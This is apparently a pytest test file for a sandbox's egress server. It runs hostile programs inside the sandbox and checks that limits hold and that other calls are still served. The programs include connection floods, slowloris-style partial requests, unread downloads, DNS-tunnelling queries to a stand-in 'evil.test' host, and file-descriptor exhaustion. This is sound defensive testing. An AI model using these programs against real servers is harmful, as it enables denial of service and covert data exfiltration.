"""Programs that try to wear the egress server out: floods, silence, endless heads, endless questions.

The server is the engine's own process, so each story checks that another call beside it is served meanwhile, and that
nothing of the hostile one is left when it is over.
"""

from __future__ import annotations

import asyncio
import os
import resource
from collections.abc import Iterator

import pytest

from palyra.egress.records import EACH, SUMMED
from palyra.inside.listeners import BACKLOG
from palyra.launch.process import ProcessExecutor
from palyra.model.call import Tier
from palyra.model.host import Guarantee
from palyra.model.limits import Limits
from palyra.model.outcome import Status
from palyra.sandbox.planner import plan_job
from tests.conformance.arena import OWNERS, PRELUDE, PYTHON, Arena, Kept, Result, arena, egress, grant, host, require
from tests.conformance.test_egress import CLIENT
from tests.promises import promise
from tests.servers import Seen, tcp, web

pytestmark = pytest.mark.slow

PATIENT = Limits(wall_ms=240_000)
"""These programs are to end by themselves, on a busy machine too."""
FETCH = "report(fetch('granted.test', int(sys.argv[1])))"


@pytest.fixture
def place() -> Iterator[Arena]:
    require(Tier.C, Guarantee.HOST_ALLOWLIST)
    with arena(Tier.C, OWNERS[-1]) as made:
        yield made


@pytest.fixture
def server() -> Iterator[Seen]:
    with web() as seen:
        yield seen


async def run(executor: ProcessExecutor, place: Arena, program: str, port: int) -> Result:
    words = (PYTHON, "-I", "-S", "-c", PRELUDE + CLIENT + program, str(port))
    net = grant(f"granted.test:{port}", f"127.0.0.1:{port}")
    plan, output = plan_job(place.job(*words, net=net, limits=PATIENT), host()), Kept()
    return Result(await executor.run(plan, output), plan, output)


def beside(place: Arena, program: str, port: int, **bounds: int) -> tuple[Result, list[Result]]:
    """The hostile program, and ordinary calls of the same process one after the other for as long as it runs."""

    async def both() -> tuple[Result, list[Result]]:
        executor = ProcessExecutor(host(), egress=egress(**bounds))
        hostile = asyncio.create_task(run(executor, place, program, port))
        ordinary = [await run(executor, place, FETCH, port)]
        while not hostile.done() and len(ordinary) < 20:
            ordinary.append(await run(executor, place, FETCH, port))
        return await hostile, ordinary

    return asyncio.run(both())


@promise("egress.server-bounds")
def test_ten_thousand_connections_are_bounded_and_others_are_served(place: Arena, server: Seen) -> None:
    program = """
kept, ends = [], {}
for at in range(10_000):
    try:
        s = socket.create_connection(("granted.test", int(sys.argv[1])), 5)
        s.sendall(b"GET / HTTP/1.1\\r\\n")
        kept.append(s)
        if len(kept) > 300:
            kept.pop(0).close()
        word = "connected"
    except OSError as error:
        word = errno.errorcode.get(error.errno, type(error).__name__)
    ends[word] = ends.get(word, 0) + 1
report(ends)
"""
    before = len(os.listdir("/proc/self/fd"))
    hostile, ordinary = beside(place, program, server.port, connections=4096, connections_at_once=128)
    assert hostile.execution.status is Status.COMPLETED
    assert hostile.json["connected"] <= 4096 + BACKLOG, "the kernel shakes hands with those that nobody takes"
    assert sum(hostile.json.values()) == 10_000
    assert len(hostile.execution.connections) <= EACH + SUMMED + 3
    assert all(result.json == "HTTP/1.1 200 OK" for result in ordinary)
    assert len(os.listdir("/proc/self/fd")) <= before + 8


@promise("egress.server-bounds")
def test_clients_that_never_finish_their_sentence_delay_nobody(place: Arena, server: Seen) -> None:
    program = """
kept = [socket.create_connection(("granted.test", int(sys.argv[1])), 5) for _ in range(100)]
for at, s in enumerate(kept):
    s.sendall([b"G", b"GET / HTTP/1.1\\r\\nHost: ", b"\\x16\\x03", b""][at % 4])
for _ in range(10):
    time.sleep(0.1)
    for s in kept[::4]:
        tried(s.send, b"x")
report(len(kept))
"""
    hostile, ordinary = beside(place, program, server.port)
    assert hostile.json == 100
    assert len(ordinary) > 1
    assert all(result.json == "HTTP/1.1 200 OK" for result in ordinary)


@promise("egress.server-bounds")
def test_a_program_that_does_not_read_is_not_buffered_for(place: Arena, server: Seen) -> None:
    """Back pressure reaches the host: of 8 MiB, a bounded part has left it, most of it into the kernel's own buffer."""
    program = """
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
s.connect(("granted.test", int(sys.argv[1])))
s.sendall(f"GET /big HTTP/1.1\\r\\nHost: granted.test:{sys.argv[1]}\\r\\n\\r\\n".encode())
time.sleep(1)
report("read nothing")
"""
    hostile, ordinary = beside(place, program, server.port)
    assert hostile.json == "read nothing"
    [one] = hostile.execution.connections
    assert one.bytes_down < 6 << 20
    assert all(result.json == "HTTP/1.1 200 OK" for result in ordinary)


@promise("egress.server-bounds")
def test_a_host_that_never_answers_ends_with_its_own_connection(place: Arena) -> None:
    program = """
s = socket.create_connection(("granted.test", int(sys.argv[1])), 5)
s.sendall(b"hello?\\r\\n")
s.settimeout(10)
report(tried(s.recv, 100) or "closed")
"""

    async def alone(port: int) -> Result:
        return await run(ProcessExecutor(host(), egress=egress(idle_s=1)), place, program, port)

    with tcp(answers=False) as silent:
        result = asyncio.run(alone(silent.port))
    assert result.json in ("ECONNRESET", "closed")


@promise("egress.server-bounds")
def test_bytes_of_a_call_are_bounded(place: Arena, server: Seen) -> None:
    program = "report(tried(fetch, 'granted.test', int(sys.argv[1]), None, 5, 0, '/big'))"

    async def alone() -> Result:
        return await run(ProcessExecutor(host(), egress=egress(total_bytes=1 << 20)), place, program, server.port)

    result = asyncio.run(alone())
    assert result.json == "ECONNRESET"
    assert result.execution.connections[0].bytes_down <= 2 << 20


@promise("egress.dns-exfiltration")
def test_endless_questions_for_names_are_answered_and_kept_short(place: Arena, server: Seen) -> None:
    """DNS as a way to send something out: every question ends here, and the record of them stays readable."""
    program = """
def ask(name):
    question = b"".join(bytes([len(part)]) + part for part in name.split(b".")) + b"\\0\\0\\1\\0\\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        s.sendto(b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + question, ("127.0.0.1", 53))
        return s.recv(512)[3] & 15
codes = [ask(b"%032x.evil.test" % at) for at in range(2000)]
long = tried(ask, b".".join([b"a" * 63] * 4))
report([sorted(set(codes)), long])
"""
    hostile, ordinary = beside(place, program, server.port)
    assert hostile.json[0] == [3]
    assert len(hostile.execution.connections) <= EACH + SUMMED + 3
    assert hostile.execution.connections[-1].host == "*"
    assert all(result.json == "HTTP/1.1 200 OK" for result in ordinary)


@promise("host-allowlist.closed-connections")
def test_a_cancelled_call_leaves_no_connection_behind(place: Arena, server: Seen) -> None:
    program = f"{FETCH}\nkept = socket.create_connection(('granted.test', int(sys.argv[1])), 5)\ntime.sleep(60)"

    async def cancelled() -> Kept:
        executor = ProcessExecutor(host(), egress=egress())
        words = (PYTHON, "-I", "-S", "-c", PRELUDE + CLIENT + program, str(server.port))
        net = grant(f"granted.test:{server.port}", f"127.0.0.1:{server.port}")
        output = Kept()
        task = asyncio.create_task(executor.run(plan_job(place.job(*words, net=net), host()), output))
        while server.connections < 2:
            await asyncio.sleep(0.01)
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task
        return output

    before = len(os.listdir("/proc/self/fd"))
    output = asyncio.run(cancelled())
    assert [one.verdict for one in output.connections] == ["allowed", "allowed"]
    assert len(os.listdir("/proc/self/fd")) <= before + 6


@promise("sandbox.per-user-resources")
def test_descriptors_that_a_program_keeps_under_way_keep_no_other_call_from_its_network(
    place: Arena, server: Seen
) -> None:
    """They are counted by user, whatever namespace sends them, against the limit on open files of who sends next."""
    program = """
import array
kept, sent = [], 0
try:
    while True:
        kept.append(socket.socketpair())
        many = array.array("i", [kept[0][0].fileno()] * 253)
        kept[-1][0].sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, many)])
        sent += 253
except OSError as error:
    refused = error.errno
time.sleep(5)
report([sent > 1000, errno.errorcode.get(refused)])
"""
    limits = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (1024, limits[1]))
    try:
        hostile, ordinary = beside(place, program, server.port)
    finally:
        resource.setrlimit(resource.RLIMIT_NOFILE, limits)
    assert hostile.json == [True, "ETOOMANYREFS"]
    assert all(result.json == "HTTP/1.1 200 OK" for result in ordinary)
